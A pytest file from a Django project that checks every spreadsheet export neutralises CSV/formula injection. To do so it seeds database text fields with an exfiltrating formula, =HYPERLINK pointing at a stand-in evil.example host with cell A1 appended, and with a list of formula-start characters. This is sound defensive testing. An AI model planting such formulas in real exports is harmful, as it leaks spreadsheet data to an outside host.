"""No export hands out a live formula (issue 11: CSV/formula injection). Every spreadsheet export
is downloaded through its view, as a person who may, with a formula in every text field the
database holds; no .xlsx cell may be a formula or text that Excel would read as one, and no CSV
field may start with a formula's first character. A new export fails test_every_export_is_listed
until it is added to EXPORTS (and so to this test)."""

from __future__ import annotations

import csv
import inspect
import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from tests.directory.test_export import _rich_listing
from tests.events.minutes_factory import minutes_world
from tests.liaison.conftest import _ward_records_rows, ward_records  # noqa: F401 (fixtures)
from tests.shared_rows import shareable
from tsunagu.events import services as events
from tsunagu.lib import spreadsheets
from tsunagu.lib.spreadsheets import FORMULA_STARTS

SOURCE = Path(__file__).resolve().parents[2] / "tsunagu"

# url name → the formats it offers. The test below downloads each one.
EXPORTS = {
    "directory:export": ["xlsx", "csv"],
    "places:export": ["xlsx", "csv"],
    "liaison:pack_xlsx": ["xlsx"],
    "hearings:compare_xlsx": ["xlsx"],
    "events:participants_xlsx": ["xlsx"],
    "projects:export": ["xlsx"],
    "events:minutes_xlsx": ["xlsx"],
    "outings:summary_xlsx": ["xlsx"],
    "outings:plan_sheet_xlsx": ["xlsx"],
    "surveys:results_export": ["xlsx", "csv"],
    "surveys:xlsform_export": ["xlsx"],
}

# Fields that are keys, paths or machine codes rather than what people type into a text box.
NOT_PLANTED = {"code", "path", "search_text", "password", "username", "token", "header_key", "icon", "byday",
               "bymonthday", "how", "pillars", "functions", "email", "subject", "submission_key"}
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"]


def _patterns(resolver, prefix=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            space = f"{pattern.namespace}:" if pattern.namespace else prefix
            yield from _patterns(pattern, space)
        elif isinstance(pattern, URLPattern):
            yield f"{prefix}{pattern.name}", pattern.callback


def test_every_export_is_listed():
    answering = set()
    for name, callback in _patterns(get_resolver()):
        try:
            source = inspect.getsource(inspect.unwrap(callback))
        except (OSError, TypeError):
            continue
        # lib's attachment() sends a download; a helper named e.g. _attachment() is not one.
        if re.search(r"(?<!\w)attachment\(", source):
            answering.add(name)
    assert answering == set(EXPORTS)


# Modules that name a spreadsheet's content type to recognise an upload, and write none.
READERS = {"attachments/checks.py"}


def test_spreadsheets_are_only_written_through_the_one_writer():
    """Anything that makes a workbook or a CSV, or names their content types, outside
    tsunagu/lib/spreadsheets.py would bypass the neutralising; its callers are the known exports."""
    bypass = re.compile(r"import Workbook|Workbook\(|csv\.writer|DictWriter|spreadsheetml|text/csv|\.save\(out\)")
    writers = re.compile(r"\b(new_workbook|write_xlsx|write_csv|workbook_bytes)\(")
    offending, callers = [], set()
    for path in SOURCE.rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "lib":
            continue
        if str(path.relative_to(SOURCE)) in READERS:
            continue
        text = path.read_text(encoding="utf-8")
        if bypass.search(text):
            offending.append(str(path.relative_to(SOURCE)))
        if writers.search(text):
            callers.add(str(path.relative_to(SOURCE)))
    assert offending == []
    assert callers == {"directory/exporters.py", "people/place_views.py", "liaison/pack.py", "hearings/exports.py",
                       "events/exports.py", "projects/exports.py",
                       "events/papers.py", "outings/summary.py", "outings/papers.py",
                       "surveys/exports.py", "surveys/xlsform.py"}


def plant_formulas() -> int:
    """A formula in every text field of every row of the apps that exports read; returns how many
    fields were planted."""
    planted = 0
    for label in ["places", "people", "directory", "memos", "sheets", "hearings", "district_plans", "liaison",
                  "events", "projects", "outings", "surveys"]:
        for model in apps.get_app_config(label).get_models():
            for field in model._meta.concrete_fields:
                if (not isinstance(field, (models.CharField, models.TextField)) or field.choices
                        or field.name in NOT_PLANTED or field.primary_key):
                    continue
                start = STARTS[planted % len(STARTS)]
                payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"{field.name}")'
                if field.max_length and len(payload) > field.max_length:
                    payload = f"{start}1+1"[: field.max_length]
                model.objects.update(**{field.name: payload})
                planted += 1
    return planted


def _looks_like_a_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_xlsx(content: bytes) -> int:
    """Asserts no cell is or reads as a formula; returns how many planted cells were seen."""
    book = load_workbook(io.BytesIO(content))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS:
                    # Shown as text by Excel, and kept text when someone edits the cell.
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS and "1" in cell.value:
                    seen += 1
    return seen


def check_csv(content: bytes) -> int:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    seen = 0
    for row in rows:
        for field in row:
            assert field[:1] not in FORMULA_STARTS or _looks_like_a_number(field), field
            if field[:1] == "'" and field[1:2] in FORMULA_STARTS:
                seen += 1
    return seen


def make_everything(world, records):
    _rich_listing(world, "簑沢えんがわカフェ")
    # The liaison meeting's participants, named and counted (events:participants_xlsx).
    events.participants_add(user=world.naka_1so, event=records.meeting, organisations=[world.minosawa_cp],
                            accounts=[world.minosawa_2so], names=["山田 花子"])
    records.meeting.participants.update(note="備考")
    events.head_counts_set(user=world.naka_1so, event=records.meeting, counts={"住民": 30})
    _project(world)
    _outing(world)
    records.plan = _plan(world)
    records.minutes = minutes_world(world)
    # One head count only: planting writes one text into every row, and an event's kinds are unique.
    records.minutes.meeting.head_counts.exclude(label="住民").delete()
    records.survey = _survey(world)
    return records


_everything_rows, everything = shareable("everything", make_everything, needs=("ward_records",))


def _survey(world):
    """A survey with five answers of one choice (shown, not 「5未満」) and a long text."""
    from decimal import Decimal

    from tests.surveys.factory import build_survey
    from tsunagu.surveys import services as surveys
    from tsunagu.surveys.services import Given

    s = build_survey(world.naka, user=world.naka_1so, title="中区 買い物")
    for _n in range(5):
        surveys.record_response(s.survey, {s.shop.pk: Given(choices=[s.troubled.pk]),
                                           s.want.pk: Given(number=Decimal(3))}, via="paper", area=world.d6)
    return s


def _project(world):
    from django.utils import timezone

    from tsunagu.projects import services as projects

    project = projects.project_create(user=world.naka_1so, title="簑沢 移動販売", place=world.minosawa, purpose="目的",
                                      organisations=[world.minosawa_cp])
    projects.member_add(user=world.naka_1so, project=project, member=world.minosawa_2so, note="担当")
    projects.milestone_save(user=world.naka_1so, project=project, title="説明会", planned_on=timezone.localdate(),
                            note="メモ")
    entry = projects.entry_create(user=world.minosawa_2so, project=project, date=timezone.localdate(), body="記録")
    projects.comment_add(user=world.naka_1so, entry=entry, body="コメント")


def _outing(world):
    """One recorded day of an outing, with a car's fare (outings:summary_xlsx sums them)."""
    from datetime import date, time

    from tsunagu.outings import services as outings

    company = outings.company_save(user=world.naka_1so, company=None, place=world.naka, name="会社")
    outing = outings.outing_create(user=world.naka_1so, place=world.d6, title="お買物ツアー", destination_name="市場",
                                   days=[{"date": date(2026, 10, 14), "arrive_by": time(10)}])
    outings.day_record(user=world.naka_1so, day=outing.days.get(), came={}, went_wrong="メモ",
                       fares=[{"company": company, "car": "1号車", "fare": 1800, "tickets": 0}])


def _plan(world):
    """A day's dispatch plan with four riders (outings:plan_sheet_xlsx, the company's sheet)."""
    from tests.outings.plan_factory import plan_world
    from tsunagu.outings import plan_services
    from tsunagu.outings.planning import Rules

    w = plan_world(world, riders=4)
    plan, _layout = plan_services.plan_make(user=world.naka_1so, day=w.day, direction="to", rules=Rules(),
                                            split="equal", seen_version=None)
    return plan


def _download(client, name: str, fmt: str, world, records):
    if name == "directory:export":
        return client.get(reverse(name), {"format": fmt})
    if name == "places:export":
        return client.get(reverse(name), {"format": fmt, "blocks": "1"})
    if name == "liaison:pack_xlsx":
        return client.get(reverse(name, args=[world.naka.pk]), records.period)
    if name == "hearings:compare_xlsx":
        return client.get(reverse(name, args=[records.hearing.pk]))
    if name == "events:participants_xlsx":
        return client.get(reverse(name, args=[records.meeting.pk]))
    if name == "projects:export":
        from tsunagu.projects.models import Project

        return client.get(reverse(name, args=[Project.objects.get().pk]))
    if name == "events:minutes_xlsx":
        return client.get(reverse(name, args=[records.minutes.meeting.pk]))
    if name == "outings:summary_xlsx":
        return client.get(reverse(name))
    if name == "outings:plan_sheet_xlsx":
        return client.get(reverse(name, args=[records.plan.day_id, "to"]))
    if name == "surveys:results_export":
        return client.get(reverse(name, args=[records.survey.survey.pk]), {"format": fmt, "by": "area:district"})
    if name == "surveys:xlsform_export":
        return client.get(reverse(name, args=[records.survey.survey.pk]))
    raise AssertionError(f"{name}: say here how to download it")


# The least each export must carry of what was planted, so that the test cannot pass on an
# export that left the planted text out.
AT_LEAST = {"directory:export": 20, "places:export": 5, "liaison:pack_xlsx": 10, "hearings:compare_xlsx": 5,
            "events:participants_xlsx": 5, "projects:export": 8,
            "events:minutes_xlsx": 8, "outings:summary_xlsx": 2, "outings:plan_sheet_xlsx": 8,
            "surveys:results_export": 4, "surveys:xlsform_export": 10}


@pytest.mark.parametrize(("name", "fmt"), [(name, fmt) for name, fmts in EXPORTS.items() for fmt in fmts])
def test_no_export_hands_out_a_formula(world, everything, as_user, name, fmt):
    assert plant_formulas() > 40
    response = _download(as_user(world.naka_1so), name, fmt, world, everything)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    if fmt == "csv":
        assert response["Content-Type"] == spreadsheets.CSV_CONTENT_TYPE
        seen = check_csv(response.content)
    else:
        assert response["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE
        seen = check_xlsx(response.content)
    assert seen >= AT_LEAST[name], seen


@pytest.mark.parametrize("value", ["=SUM(A1)", "+81 45", "-5℃の日は中止", "@受付", "\t=1", "\r=1", "＝全角", "－全角",
                                   "'=引用符つき", "'ただの引用符", "'", "", "普通の文"])
def test_csv_text_goes_out_neutral_and_comes_back_the_same(value):
    out = spreadsheets.csv_text(value)
    assert out[:1] not in FORMULA_STARTS
    assert spreadsheets.csv_text_back(out) == value
    table = spreadsheets.read_table(spreadsheets.write_csv(["見出し", "数"], [[value, -5]]), "x.csv")
    assert table.rows[0].values["数"] == "-5"
    assert table.rows[0].values["見出し"] == value.strip()


def test_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(spreadsheets.write_xlsx(["数"], [[-5], [2.5]])))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(-5, "n", False), (2.5, "n", False)]
    assert spreadsheets.write_csv(["数"], [[-5]]).decode("utf-8-sig").splitlines()[1] == "-5"
